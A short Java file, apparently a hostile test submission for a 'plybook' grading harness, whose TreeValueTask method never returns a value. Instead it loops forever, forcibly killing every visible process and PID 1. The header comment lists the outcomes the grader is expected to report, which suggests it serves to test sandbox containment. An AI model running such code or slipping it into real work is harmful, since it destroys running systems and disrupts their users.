// Hostile: ends every process that it sees, and waits
// Says: ended without an answer | still busy | ended the program
import plybook.task.TreeValueTask;
import plybook.tree.Tree;

public class MyTreeValue implements TreeValueTask {
    @Override
    public int value(Tree tree) {
        while (true) {
            ProcessHandle.allProcesses().forEach(process -> {
                if (process.pid() != ProcessHandle.current().pid()) {
                    process.destroyForcibly();
                }
            });
            ProcessHandle.of(1).ifPresent(ProcessHandle::destroyForcibly);
        }
    }
}
